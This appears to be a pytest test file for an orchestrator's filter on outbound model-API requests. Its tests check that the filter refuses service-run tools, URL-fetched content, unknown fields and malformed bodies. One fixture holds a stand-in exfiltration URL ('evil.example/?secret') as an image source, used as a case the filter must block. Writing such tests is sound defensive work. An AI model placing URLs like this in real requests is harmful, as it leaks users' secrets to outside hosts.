"""What a model call may ask for."""

import json
from typing import Any

import pytest

from orchestrator.domain.model_request import Refused, judged
from orchestrator.domain.model_rules import ModelRules

# What the CLI 2.1.330 sends, as seen.
CLI: dict[str, Any] = {
    "model": "claude-x",
    "messages": [
        {"role": "user", "content": [{"type": "text", "text": "hello"}]},
        {"role": "user", "content": [{"type": "image", "source": {"type": "base64", "data": "AA=="}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": "plain"}]},
    ],
    "system": [{"type": "text", "text": "You are."}],
    "tools": [
        {"name": "Bash", "description": "d", "input_schema": {"type": "object"}},
        {"name": "DeferredToolPlaceholder", "description": "d", "input_schema": {}, "defer_loading": True},
        {"name": "Mine", "type": "custom", "input_schema": {}},
    ],
    "metadata": {"user_id": "x"},
    "max_tokens": 128_000,
    "thinking": {"type": "adaptive"},
    "context_management": {"edits": []},
    "output_config": {"effort": "medium"},
    "stream": True,
}
FETCHED = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?secret"}}


def refusal(body: bytes) -> str | None:
    found = judged(body, ModelRules())
    return found.reason if isinstance(found, Refused) else None


def _refusal(**changes: Any) -> str | None:
    return refusal(json.dumps(CLI | changes).encode())


def test_what_the_cli_sends_may_leave() -> None:
    assert _refusal() is None
    assert _refusal(tools=[], system="plain text", messages=[{"role": "user", "content": "plain"}]) is None


@pytest.mark.parametrize("field", ["mcp_servers", "container", "service_tier", "betas", "Tools", ""])
def test_fields_nobody_has_looked_at_are_refused(field: str) -> None:
    assert _refusal(**{field: []}) == "a field the agent has no use for"


@pytest.mark.parametrize(
    "tool",
    [
        {"type": "web_fetch_20250910", "name": "web_fetch"},
        {"type": "web_search_20250305", "name": "web_search"},
        {"type": "code_execution_20250825", "name": "code_execution"},
        {"type": "mcp_toolset", "mcp_server_name": "x"},
        {"type": "Custom", "name": "x"},
        {"type": ["custom"], "name": "x"},
        {"type": {"custom": 1}, "name": "x"},
        "web_fetch",
        None,
    ],
)
def test_tools_that_the_service_runs_are_refused(tool: Any) -> None:
    assert _refusal(tools=[*CLI["tools"], tool]) == "a tool of the model's service"


@pytest.mark.parametrize("tools", ["web_fetch", {"0": {"type": "web_fetch_20250910"}}, 1])
def test_tools_in_another_shape_are_refused(tools: Any) -> None:
    assert _refusal(tools=tools) == "tools that are no list"


@pytest.mark.parametrize(
    "content",
    [
        [FETCHED],
        [{"type": "document", "source": {"type": "file", "file_id": "f"}}],
        [{"type": "tool_result", "tool_use_id": "t", "content": [FETCHED]}],
        {"anything": {"deeper": [[FETCHED]]}},
        [{"source": {"type": "url"}, "type": ["x"]}],
    ],
)
def test_content_the_service_would_fetch_is_refused(content: Any) -> None:
    wanted = "content the model's service would fetch"
    assert _refusal(messages=[{"role": "user", "content": content}]) == wanted
    assert _refusal(system=content) == wanted


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"\xff",
        b"[" * 100_000,
        b'{"tools": [], "tools": []}',
        b'{"messages": [{"source": 1, "source": 2}]}',
    ],
)
def test_what_cannot_be_read_is_refused(body: bytes) -> None:
    assert refusal(body) == "a body that is not JSON"


@pytest.mark.parametrize("body", [b"[]", b'"x"', b"null", b"1"])
def test_what_is_no_object_is_refused(body: bytes) -> None:
    assert refusal(body) == "a body that is no object"


def test_a_source_of_no_known_type_is_the_services_to_judge() -> None:
    assert (
        _refusal(messages=[{"role": "user", "content": [{"source": {"type": ["url"]}}, {"source": "x"}]}])
        is None
    )
